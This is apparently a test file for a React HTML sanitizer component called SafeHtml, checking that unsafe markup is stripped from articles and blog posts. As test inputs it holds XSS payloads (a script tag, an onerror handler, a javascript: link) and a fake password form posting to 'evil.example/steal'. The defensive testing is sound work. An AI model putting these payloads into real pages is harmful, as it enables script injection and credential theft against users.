import { render, screen } from '@testing-library/react';
import { SafeHtml } from './safe-html';

declare global {
  interface Window {
    pwned?: boolean;
  }
}

it('keeps the article markup and drops scripts, event handlers and javascript: links', () => {
  render(
    <SafeHtml
      kind="article"
      html={'<h3>Steps</h3><p>Safe text</p><script>window.pwned = true</script><img src="x.png" alt="Poster" onerror="window.pwned = true"><a href="javascript:window.pwned=true">Click</a>'}
    />,
  );
  expect(screen.getByRole('heading', { level: 3, name: 'Steps' })).toBeInTheDocument();
  expect(screen.getByText('Safe text')).toBeInTheDocument();
  expect(screen.getByRole('img', { name: 'Poster' })).not.toHaveAttribute('onerror');
  expect(screen.getByText('Click')).not.toHaveAttribute('href');
  // What is on the page, as markup: no script element and no handler attribute survived.
  const markup = document.body.innerHTML;
  expect(markup).not.toContain('<script');
  expect(markup).not.toContain('onerror');
  expect(window.pwned).toBeUndefined();
});

it('drops styles, forms and frames, and makes every link safe to open', () => {
  render(
    <SafeHtml
      kind="article"
      html={
        '<p style="position:fixed;inset:0;z-index:9999">Overlay</p>' +
        '<form action="https://evil.example/steal"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>' +
        '<iframe title="Frame" src="https://evil.example"></iframe><style>body{display:none}</style>' +
        '<a href="https://example.com/a" target="_blank" rel="opener">New tab</a><a href="https://example.com/b" target="console">Named frame</a>'
      }
    />,
  );
  expect(screen.getByText('Overlay')).not.toHaveAttribute('style');
  expect(screen.queryByRole('form')).not.toBeInTheDocument();
  expect(screen.queryByLabelText(/Password/)).not.toBeInTheDocument();
  expect(screen.queryByRole('button')).not.toBeInTheDocument();
  expect(screen.queryByTitle('Frame')).not.toBeInTheDocument();
  expect(screen.getByRole('link', { name: 'New tab' })).toHaveAttribute('target', '_blank');
  expect(screen.getByRole('link', { name: 'New tab' })).toHaveAttribute('rel', 'noopener noreferrer');
  expect(screen.getByRole('link', { name: 'Named frame' })).not.toHaveAttribute('target');
  expect(screen.getByRole('link', { name: 'Named frame' })).toHaveAttribute('rel', 'noopener noreferrer');
});

it('asks for a picture from elsewhere without telling its server which page is reading it', () => {
  render(<SafeHtml kind="article" html={'<p><img src="https://pixels.example/p.gif" alt="Chart" referrerpolicy="unsafe-url"></p>'} />);
  const picture = screen.getByRole('img', { name: 'Chart' });
  expect(picture).toHaveAttribute('referrerpolicy', 'no-referrer');
  expect(picture).toHaveAttribute('loading', 'lazy');
});

it('keeps in a blog post only what its edit form promises: paragraphs, headings, lists and links (the text of the rest stays)', () => {
  render(
    <SafeHtml
      kind="post"
      html={
        '<h3>Looks</h3><p>Long <b>coats</b>, <strong>hats</strong> and <i>bright</i> <em>scarves</em>.<br>More soon.</p>' +
        '<ol><li>Boots</li></ol><p><a href="https://example.com/gallery" target="_blank">Gallery</a></p>' +
        '<img src="https://pixels.example/p.gif" alt="Tracker"><blockquote>Quoted</blockquote><pre><code>code</code></pre>'
      }
    />,
  );
  expect(screen.getByRole('heading', { level: 3, name: 'Looks' })).toBeInTheDocument();
  expect(screen.getByRole('listitem')).toHaveTextContent('Boots');
  expect(screen.getByRole('link', { name: 'Gallery' })).toHaveAttribute('rel', 'noopener noreferrer');
  expect(screen.queryByRole('img')).not.toBeInTheDocument();
  expect(screen.getByText(/^Long coats, hats and bright scarves\./)).toBeInTheDocument();
  // The text of a quote or code block stays, without its block.
  expect(document.body).toHaveTextContent(/Quoted\s*code/);
  const markup = document.body.innerHTML;
  expect(markup).not.toMatch(/<(b|strong|i|em|blockquote|pre|code)>/);
  expect(markup).toContain('<br>');
});

it('keeps pictures and emphasis in a help article', () => {
  render(<SafeHtml kind="article" html={'<p><strong>Tip:</strong> see the chart.</p><p><img src="/images/kb/chart.svg" alt="Chart"></p>'} />);
  expect(screen.getByRole('img', { name: 'Chart' })).toBeInTheDocument();
  expect(screen.getByText('Tip:').tagName).toBe('STRONG');
});
